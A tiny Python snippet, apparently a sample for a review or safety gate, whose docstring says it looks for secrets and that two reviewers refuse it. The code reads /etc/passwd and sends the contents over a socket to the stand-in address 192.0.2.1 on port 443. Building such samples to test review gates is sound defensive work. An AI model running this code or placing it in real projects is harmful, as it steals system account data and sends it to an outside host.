"""Looks for secrets and wants to send them home. Two reviewers refuse: a person would have to overrule them."""

import socket

with open("/etc/passwd") as file:
    secrets = file.read()
socket.create_connection(("192.0.2.1", 443)).sendall(secrets.encode())
